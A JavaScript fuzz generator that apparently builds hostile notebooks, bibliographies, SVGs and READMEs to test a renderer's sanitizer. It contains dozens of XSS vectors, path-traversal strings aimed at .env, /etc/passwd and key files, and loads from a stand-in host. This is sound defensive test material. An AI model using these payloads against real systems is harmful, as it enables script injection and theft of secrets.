// A grammar of hostile notebooks: what has got past sanitizers elsewhere, put into every place that a notebook, a bibliography, a glossary or
// a README has. `hit(1)` is what must never run, canary.invalid what must never be asked.

const js = ["hit(1)", "top.hit(1)", "window['hit'](1)", "hit`1`", "setTimeout('hit(1)')"];
const breakouts = [
  "",
  '"',
  "'",
  ">",
  '">',
  "'>",
  "-->",
  "</script>",
  "</style>",
  "</title>",
  "</textarea>",
  "]]>",
  "`",
  '\\">',
  "&quot;>",
  "\u2028",
  '"]}',
  "</svg>",
  "${",
  "}}",
  "\\u0022>",
];

function vector(r) {
  const j = r.pick(js);
  return r.pick([
    `<script>${j}</script>`,
    `<script src="http://canary.invalid/x.js"></script>`,
    `<img src=x onerror="${j}">`,
    `<img src=x OnErRoR=${j.replaceAll(" ", "")}>`,
    `<svg/onload=${j}>`,
    `<svg><script>${j}</script></svg>`,
    `<svg><animate onbegin=${j} attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${j}"><text y=20>x</text></a></svg>`,
    `<iframe srcdoc="<script>parent.${j}</script>"></iframe>`,
    `<iframe src="javascript:parent.${j}"></iframe>`,
    `<a href="javascript:${j}">x</a>`,
    `<a href=" jav&#x09;ascript:${j}">x</a>`,
    `<a href="data:text/html,<script>${j}</script>">x</a>`,
    `<details open ontoggle=${j}><summary>x</summary></details>`,
    `<form action="javascript:${j}"><button>x</button></form>`,
    `<button formaction="javascript:${j}">x</button>`,
    `<meta http-equiv=refresh content="0;url=javascript:${j}">`,
    `<meta http-equiv=refresh content="0;url=http://canary.invalid/">`,
    `<base href="http://canary.invalid/">`,
    `<link rel=stylesheet href=http://canary.invalid/x.css>`,
    `<style>@import 'http://canary.invalid/x';</style>`,
    `<style>*{background:url(http://canary.invalid/y)}</style>`,
    `<img srcset="http://canary.invalid/a.png 1x">`,
    `<img src="http://canary.invalid/a.png" alt="a">`,
    `<picture><source srcset="http://canary.invalid/b.png"><img src=x alt=a></picture>`,
    `<video autoplay src=http://canary.invalid/v onerror=${j}></video>`,
    `<audio src=x onerror=${j}>`,
    `<math><mtext><table><mglyph><style><math><img src=x onerror=${j}></style></mglyph></table></mtext></math>`,
    `<svg><style><img src=x onerror=${j}></style></svg>`,
    `<noscript><p title="</noscript><img src=x onerror=${j}>"></noscript>`,
    `<template><script>${j}</script></template>`,
    `<object data="javascript:${j}"></object>`,
    `<embed src="javascript:${j}">`,
    `<body onload=${j}>`,
    `<input autofocus onfocus=${j}>`,
    `<select autofocus onfocus=${j}></select>`,
    `<textarea></textarea><img src=x onerror=${j}>`,
    `<xmp><p title="</xmp><img src=x onerror=${j}>">`,
    `<div style="background:url(http://canary.invalid/x)">x</div>`,
    `<p style="width:expression(${j})">x</p>`,
    `<table background="http://canary.invalid/t"><tr><td>x</td></tr></table>`,
    `<p id="open-search">x</p><p id="toggle-theme">y</p>`,
    `<a id=iommuLab></a><a id=Plotly></a><form name=moduleName><input id=newPlot></form>`,
    `<span data-slot="0">x</span><div data-slot="1"></div>`,
    `<div class="canvas" data-plot="http://canary.invalid/p.js" data-name=x></div>`,
    `<details class=source open><code>x</code></details>`,
    `{{constructor.constructor('${j}')()}}`,
    `<!--><img src=x onerror=${j}>-->`,
    `<![CDATA[<img src=x onerror=${j}>]]>`,
    `<<script>${j}//<</script>`,
    `<img """><script>${j}</script>">`,
    `<a${r.pick(["\f", "\n", "\t", "/"])}href="javascript:${j}">x</a>`,
  ]);
}

const words = (r) =>
  r.pick(["lock", "map & unmap", "a < b", 'the "tree"', "it's", "IOVA", "ünïcode 🚀", "x_y*z", "\u202e", "[x]", "$5"]);
/** A short text with something hostile in it. */
const piece = (r) =>
  r.many(3, () => r.pick([() => words(r), () => r.pick(breakouts) + vector(r), () => r.pick(breakouts)])()).join(" ");

function address(r) {
  return r.pick([
    () => `javascript:${r.pick(js)}`,
    () => `JaVaScRiPt:${r.pick(js)}`,
    () => "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
    () => "http://canary.example/x",
    () => "//canary.invalid/x",
    () => `#${piece(r).replace(/[\s()]/g, "")}`,
    () => "beside.md",
    () => "glossary.md#term",
    () => "../data/references.bib#work-1",
    () => `../data/references.bib#${piece(r).replace(/[\s()]/g, "")}`,
    () => "#cell-id=fig-1",
    () => "drawing.svg",
    () => "%",
    () => "%E0%A4%A",
    () => "\\\\canary.invalid\\x",
    () => "constructor",
    () => "__proto__",
  ])();
}

/** An address of a secret: each is refused. */
const theft = (r) =>
  r.pick([
    "../.env",
    "../%2eenv",
    "../../secret.txt",
    "../../secret.md",
    "/etc/passwd",
    "file:///etc/passwd",
    "link.md",
    "away/secret.md",
    "../results/private.md",
    "../data/key.pem",
    "..\\.env",
    "./../.env",
    "../notebooks/../.env",
    "..%2f.env",
    "../.git/config",
    "away/project/.env",
  ]);

function markdown(r) {
  return r.pick([
    () => piece(r),
    () => `[${piece(r)}](${address(r)})`,
    () => `[x](${address(r)} "${piece(r)}")`,
    () =>
      `![${piece(r)}](${r.pick(["drawing.svg", "attachment:a.png", `data:image/svg+xml,${encodeURIComponent(vector(r))}`, "attachment:../../x.png", "attachment:fig-1.js", "x.png"])})`,
    () => `<${address(r)}>`,
    () => `[ref]: ${address(r)} "${piece(r)}"\n\n[ref]`,
    () => `## ${piece(r)}`,
    () => `\`\`\`${piece(r).replace(/`/g, "")}\n${vector(r)}\n\`\`\``,
    () => `    ${vector(r)}`,
    () => `\`${vector(r)}\``,
    () => `$\\href{javascript:${r.pick(js)}}{x}$`,
    () => `$\\text{${vector(r)}}$`,
    () => `$$ x \\tag{${piece(r)}} $$`,
    () => `$\\includegraphics{http://canary.invalid/x.png}$ $\\htmlId{x}{y}$ $\\rule{1e9em}{1em}$`,
    () => `| ${piece(r)} | b |\n|---|---|\n| ${vector(r)} | ${piece(r)} |`,
    () => `> ${markdown(r)}`,
    () => `- ${markdown(r)}`,
    () => `<div>\n\n${markdown(r)}\n\n</div>`,
    () => `<details><summary>${piece(r)}</summary>\n\n${markdown(r)}\n\n</details>`,
  ])();
}

const png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGP4////fwAJ+wP9KobjigAAAABJRU5ErkJggg==";

/** A drawing that would do something if it were opened by itself. */
export function hostileSvg(r) {
  const j = r.pick(js);
  return r.pick([
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${j}"><rect width="9" height="9"/></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><script>${j}</script></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><script xlink:href="http://canary.invalid/x.js" xmlns:xlink="http://www.w3.org/1999/xlink"/></svg>`,
    `<?xml-stylesheet href="http://canary.invalid/x.xsl"?><svg xmlns="http://www.w3.org/2000/svg"><image href="http://canary.invalid/x.png"/></svg>`,
    `<!DOCTYPE svg [<!ENTITY e "<script xmlns='http://www.w3.org/2000/svg'>${j}</script>">]><svg xmlns="http://www.w3.org/2000/svg">&e;</svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${j}"><script>${j}</script></body></foreignObject></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><style><![CDATA[@import "http://canary.invalid/x.css"; rect{fill:url(http://canary.invalid/y)}]]></style><rect width="9" height="9"/></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:${j}"><rect width="9" height="9"/></a></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' id='x' onload='${j}'/&gt;#x"/></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="onload" to="${j}"/><animate attributeName="href" values="javascript:${j}"/></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><text>${piece(r)}</text><path d="M0 0" style="${piece(r).replace(/"/g, "")}"/></svg>`,
    `<svg><handler xmlns="http://www.w3.org/2001/xml-events">${j}</handler><p><img src=x onerror=${j}></p></svg>`,
    piece(r),
  ]);
}

function plot(r) {
  const source = r.chance(0.05)
    ? r.pick(["http://canary.invalid/p.png", "//canary.invalid/p.png", "file:///etc/passwd"])
    : `data:image/png;base64,${png}`;
  return {
    data: [
      {
        type: r.pick(["bar", "scatter", "table", "constructor"]),
        x: ["a", piece(r)],
        y: [1, 2],
        name: piece(r),
        text: [piece(r), vector(r)],
        hovertemplate: vector(r),
        textposition: "auto",
      },
    ],
    layout: {
      title: r.pick([{ text: piece(r) }, piece(r), null, { text: `<a href="javascript:${r.pick(js)}">x</a>` }]),
      height: r.pick([420, '1px" onmouseover="hit(1)', -5, null]),
      images: [{ source, xref: "paper", yref: "paper", x: 0, y: 1, sizex: 0.1, sizey: 0.1 }],
      annotations: [{ text: `${piece(r)}<a href="${address(r)}">y</a>`, x: 0, y: 1, showarrow: false }],
      ...(r.chance(0.5) ? { template: { layout: {} } } : {}),
    },
    ...(r.chance(0.3) ? { caption: piece(r) } : {}),
  };
}

function output(r) {
  const size = () => r.pick([720, `1"><img src=x onerror=${r.pick(js)}>`, "1", null, {}, 1e99, -1]);
  return r.pick([
    () => ({
      output_type: "stream",
      name: r.pick(["stdout", "stderr", vector(r)]),
      text: `\u001b[31m${piece(r)}\u001b]8;;javascript:${r.pick(js)}\u0007x\u001b]8;;\u0007\u001b[0m`,
    }),
    () => ({ output_type: "error", ename: piece(r), evalue: vector(r), traceback: r.many(3, () => piece(r)) }),
    () => {
      const types = {
        "text/html": () => r.pick(breakouts) + vector(r) + piece(r),
        "text/markdown": () => markdown(r),
        "text/latex": () => r.pick([`\\href{javascript:${r.pick(js)}}{x}`, vector(r)]),
        "text/plain": () => r.pick([`Figure: ${piece(r)}. ${vector(r)}`, piece(r)]),
        "image/svg+xml": () => hostileSvg(r),
        "image/png": () => r.pick([png, Buffer.from(vector(r)).toString("base64"), vector(r)]),
        "image/jpeg": () => Buffer.from(vector(r)).toString("base64"),
        "application/json": () => ({ [piece(r)]: vector(r) }),
        "application/javascript": () => r.pick(js),
        [vector(r)]: () => vector(r),
      };
      const chosen = Object.keys(types).filter(() => r.chance(0.3));
      const data = Object.fromEntries(chosen.map((type) => [type, types[type]()]));
      if (r.chance(0.12)) data["application/vnd.plotly.v1+json"] = plot(r);
      const metadata = {
        "image/png": { width: size(), height: size() },
        "image/svg+xml": { width: size(), height: size() },
      };
      return { output_type: r.pick(["display_data", "execute_result"]), data, metadata, execution_count: 1 };
    },
  ])();
}

/** A notebook, as an object. Few are refused as a whole, so that most are drawn. */
export function hostileNotebook(r, number) {
  const broken = r.chance(0.06);
  const id = (i) =>
    broken && r.chance(0.3)
      ? r.pick([`fig-${piece(r)}`, "fig-/../../../../evil", vector(r).slice(0, 64), ""])
      : r.pick([`fig-${i}`, `c-${i}`, `constructor-${i}`, `__proto__${i}`]);
  const thief = r.chance(0.05);
  const cells = Array.from({ length: 1 + r.below(5) }, (_, i) => {
    const metadata = r.pick([{}, { tags: [vector(r), "raises-exception"] }, { tags: vector(r) }]);
    return r.pick([
      () => ({
        cell_type: "markdown",
        id: id(i),
        metadata,
        source: `${i === 0 ? `# ${number} ${piece(r)}\n\n` : ""}${r.many(4, () => markdown(r)).join("\n\n")}${thief ? `\n\n[x](${theft(r)}) ![y](${r.pick(["link.png", theft(r)])})` : ""}`,
        attachments: {
          "a.png": { "image/png": png },
          "../../x.png": { "image/png": png },
          "fig-1.js": { "image/png": Buffer.from("hit(1)").toString("base64") },
          "e.html": { "text/html": vector(r) },
        },
      }),
      () => ({
        cell_type: "code",
        id: id(i),
        metadata,
        source: piece(r),
        execution_count: r.pick([1, null]),
        outputs: r.many(3, () => output(r)),
      }),
      () => ({ cell_type: "raw", id: id(i), metadata, source: piece(r) }),
    ])();
  });
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { kernelspec: { name: piece(r), language: "typescript" } },
    cells,
  };
}

export function hostileBibliography(r) {
  const value = () =>
    r.pick([
      () => `{${piece(r).replace(/[{}]/g, "")}}`,
      () => `"${piece(r).replace(/["{}]/g, "")}"`,
      () => `{${address(r).replace(/[{}]/g, "")}}`,
      () => "2015",
      () => `{${piece(r)}`,
    ])();
  const fields = [
    "author",
    "title",
    "journal",
    "booktitle",
    "year",
    "url",
    "doi",
    "howpublished",
    "volume",
    "pages",
    "constructor",
    "__proto__",
  ];
  const entry = (key) =>
    `@${r.pick(["article", "misc", "inproceedings", "__proto__", vector(r)])}{${key},\n${fields
      .filter(() => r.chance(0.6))
      .map((name) => `  ${name} = ${value()}`)
      .join(",\n")}\n}\n`;
  return `${entry("work-1")}${r.many(8, () => entry(r.pick([`x${r.below(9)}`, vector(r), piece(r), "constructor"]))).join("\n")}http://canary.invalid/fetched.bib\n`;
}

export function hostileGlossary(r) {
  return `# Glossary\n\n## Term\n\nIt means ${piece(r)}.\n\n${r.many(3, () => `## ${piece(r)}\n\n${markdown(r)}`).join("\n\n")}\n`;
}

export function hostileReadme(r) {
  return `# ${piece(r)}\n\n| | | |\n|---|---|---|\n| [1](notebooks/n-1.ipynb) | ${piece(r)} | ${vector(r)} |\n\n${r.many(5, () => markdown(r)).join("\n\n")}\n`;
}
